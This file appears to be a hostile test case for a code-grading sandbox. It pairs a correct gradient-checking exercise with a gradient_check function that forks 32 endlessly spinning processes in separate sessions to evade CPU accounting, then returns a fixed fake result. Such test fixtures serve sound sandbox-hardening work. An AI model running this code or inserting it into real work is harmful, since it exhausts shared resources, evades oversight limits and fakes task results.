# Hostile test case `spinners_in_sessions` (tests/hostile/cases.toml): the reference solution with one attack.
"""Gradient checking in one dimension: J(theta) = theta * x.

Compute the cost and its derivative, then confirm the derivative numerically with a
centred difference, and measure how far apart the two are.
"""

import os
import sys

import numpy as np


def forward_propagation(x, theta):
    """The cost of the one-parameter model.

    Parameters
    ----------
    x : float
        The input.
    theta : float
        The parameter.

    Returns
    -------
    J : float
        The cost.

    Notes
    -----
    ``J = theta * x``.
    """
    J = theta * x
    return J


def backward_propagation(x, theta):
    """The derivative of the cost with respect to theta.

    Parameters
    ----------
    x : float
        The input.
    theta : float
        The parameter.

    Returns
    -------
    dtheta : float
        The gradient ``dJ/dtheta``.

    Notes
    -----
    ``dJ/dtheta = x`` (the derivative of ``theta * x``).
    """
    dtheta = x
    return dtheta


def gradient_check(x, theta, epsilon=1e-7):
    """Attack: 32 busy processes, each in a new session, then wait for them (their CPU time is the call's)."""
    import time
    for _ in range(32):
        if os.fork() == 0:  # each in a session of its own: out of the kernel's per-session CPU grouping
            os.setsid()
            try:
                import ctypes
                ctypes.CDLL(None).prctl(15, b"hx-hostile-spin", 0, 0, 0)  # PR_SET_NAME
            except Exception:
                pass
            while True:
                pass
    time.sleep(30)
    return 0.75

